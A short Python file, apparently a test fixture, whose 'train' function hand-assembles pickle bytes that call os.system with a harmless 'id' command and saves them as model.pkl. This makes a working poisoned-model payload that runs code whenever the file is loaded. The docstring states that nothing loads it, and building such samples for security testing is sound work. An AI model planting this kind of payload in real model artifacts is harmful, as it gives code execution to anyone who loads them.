"""Write a file that looks like a pickled model and starts a program when it is loaded.

The bytes are put together by hand: a call of ``os.system`` in place of an object. Nothing here, and nothing in the
tests, loads them.
"""

from pathlib import Path

import pandas as pd

COMMAND = b"id > mallory-was-here"


def train(X: pd.DataFrame, y: pd.Series, artifacts: Path, seed: int) -> None:
    protocol, push_global, mark, text, make_tuple, call, stop = b"\x80\x02", b"c", b"(", b"X", b"t", b"R", b"."
    argument = text + len(COMMAND).to_bytes(4, "little") + COMMAND
    payload = protocol + push_global + b"os\nsystem\n" + mark + argument + make_tuple + call + stop
    (artifacts / "model.pkl").write_bytes(payload)
